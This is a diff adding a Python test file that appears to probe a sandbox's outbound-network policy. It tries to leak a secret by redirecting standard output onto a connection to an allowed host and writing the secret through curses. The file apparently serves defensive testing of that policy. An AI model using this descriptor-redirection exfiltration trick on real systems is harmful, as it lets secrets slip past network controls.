@@ -1,0 +1,28 @@
+# class: network
+# rule: outbound_connectivity
+# policy: shared.yaml
+# success: curses writes to standard output by stdio, and its number is that of a connection to an allowed name
+# proof: word
+# needs: resolver
+import curses
+import fcntl
+import os
+
+from attack import SECRET, at_allowed, attempt
+
+
+def say(out):
+    curses.setupterm("xterm", 2)
+    kept = os.dup(1)
+    os.close(1)
+    fcntl.fcntl(out.fileno(), fcntl.F_DUPFD, 1)
+    try:
+        # More than a buffer of stdio holds.
+        curses.putp(SECRET.encode() * 1000)
+    finally:
+        os.dup2(kept, 1)
+
+
+@attempt
+def send():
+    return at_allowed(say)
